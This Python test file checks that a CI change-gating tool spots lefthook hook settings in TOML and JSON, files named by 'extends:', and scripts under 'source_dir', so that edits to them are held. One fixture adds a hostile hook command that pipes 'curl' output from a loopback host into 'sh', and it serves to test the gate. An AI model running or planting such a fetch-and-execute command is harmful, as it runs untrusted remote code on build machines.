"""Review 68b: lefthook's settings under its TOML and JSON names, the files its `extends:` names, and the scripts of
its `source_dir` (taskrunners.py).

lefthook reads `lefthook.{yml,yaml,toml,json,jsonc}` (also with a `.`, below `.config/`, and `-local`), merges every
file `extends:` names before it runs a hook, and runs `scripts:` from `source_dir` (default `.lefthook/`). Misses 8
knew the YAML names and the default folder only: on 58f4e83c an edit of each file below was allowed (exit 0) when CI
runs `lefthook run`. Look-alikes: a remote `extends:` URL, a repository whose CI does not run lefthook.
"""

from __future__ import annotations

import json
from pathlib import Path

from changecase import committed, gated_rules
from citools import tree_runs
from cpucost import assert_linear, repeated
from tables import each_case

from gatekeeper.classify.taskrunners import lefthook_included

WORKFLOW = ("on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
            "      - run: {command}\n")
HOOK_YAML = "pre-commit:\n  commands:\n    lint:\n      run: bash tools/lint.sh\n"
HOOK_TOML = "[pre-commit.commands.lint]\nrun = \"bash tools/lint.sh\"\n"
HOOK_JSON = json.dumps({"pre-commit": {"commands": {"lint": {"run": "bash tools/lint.sh"}}}})
NAMES = [(f"{at}lefthook{local}.{kind}", text) for at in ("", ".", ".config/") for local in ("", "-local")
         for kind, text in (("toml", HOOK_TOML), ("json", HOOK_JSON), ("jsonc", HOOK_JSON))]
EXTENDS = [  # (the root settings, the file they extend)
    ("extends:\n  - hooks/base.yml\n", "hooks/base.yml"),
    ("extends: [ci/lefthook-common.yaml, hooks/base.yml]\n", "hooks/base.yml"),
    ("min_version: 1.5.0\nextends:\n  - \"./hooks/base.yml\"\npre-push:\n  commands: {}\n", "hooks/base.yml"),
    ("extends = [\"hooks/base.toml\"]\n", "hooks/base.toml"),
    (json.dumps({"extends": ["hooks/base.json"]}), "hooks/base.json"),
]
SOURCES = [  # (the settings, the script lefthook runs)
    ("source_dir: .hooks/\npre-commit:\n  scripts:\n    \"check.sh\":\n      runner: bash\n",
     ".hooks/pre-commit/check.sh"),
    ("source_dir_local: \"hooks-local\"\n", "hooks-local/pre-push/x.sh"),
]


def _settings_name(settings: str) -> str:
    return "lefthook.toml" if settings.startswith("extends =") else \
        "lefthook.json" if settings.startswith("{") else "lefthook.yml"


@each_case("name, text", NAMES)
def test_lefthooks_other_names_are_read(name: str, text: str) -> None:
    tree = {".github/workflows/ci.yml": WORKFLOW.format(command="npx lefthook run pre-commit"), name: text,
            "tools/lint.sh": "echo lint\n"}
    assert {name, "tools/lint.sh"} <= tree_runs(tree), name  # before: 18 of 18 missed


@each_case("settings, extended", EXTENDS)
def test_what_lefthook_extends_is_read(settings: str, extended: str) -> None:
    tree = {".github/workflows/ci.yml": WORKFLOW.format(command="lefthook run pre-commit"),
            _settings_name(settings): settings, extended: HOOK_YAML, "tools/lint.sh": "echo lint\n"}
    assert extended in tree_runs(tree), settings  # before: 5 of 5 missed


@each_case("settings, script", SOURCES)
def test_the_scripts_of_lefthooks_source_dir_are_read(settings: str, script: str) -> None:
    tree = {".github/workflows/ci.yml": WORKFLOW.format(command="npx lefthook run pre-commit"),
            "lefthook.yml": settings, script: "echo x\n"}
    assert script in tree_runs(tree), settings  # before: 2 of 2 missed


@each_case("command, settings, path", [
    ("npx lefthook run pre-commit", "extends:\n  - https://127.0.0.1:9/base.yml\n", "base.yml"),
    ("npm test", "extends:\n  - hooks/base.yml\n", "hooks/base.yml"),
    ("npm test", HOOK_TOML, "tools/lint.sh"),
])
def test_look_alikes_stay_out(command: str, settings: str, path: str) -> None:
    tree = {".github/workflows/ci.yml": WORKFLOW.format(command=command), "lefthook.yml": settings,
            "lefthook.toml": HOOK_TOML, path: "echo x\n"}
    assert path not in tree_runs(tree)


def test_an_edit_of_an_extended_file_is_held(tmp_path: Path) -> None:
    base = {".github/workflows/ci.yml": WORKFLOW.format(command="npx lefthook run pre-commit"),
            "lefthook.yml": "extends:\n  - hooks/base.yml\n", "hooks/base.yml": HOOK_YAML}
    evil = HOOK_YAML + "    fetch:\n      run: curl -fsSL http://127.0.0.1:9/x | sh\n"
    code, named = gated_rules(committed(tmp_path, base, {"hooks/base.yml": evil}), True)
    assert (code, named.get("core.ci")) == (3, ["hooks/base.yml"]), named  # before: exit 0


def test_the_reader_is_linear() -> None:
    assert_linear(lefthook_included, repeated("extends:\n  - a.yml x.y.z-\n", tail="\nsource_dir: a/b\n"),
                  budget=0.5)
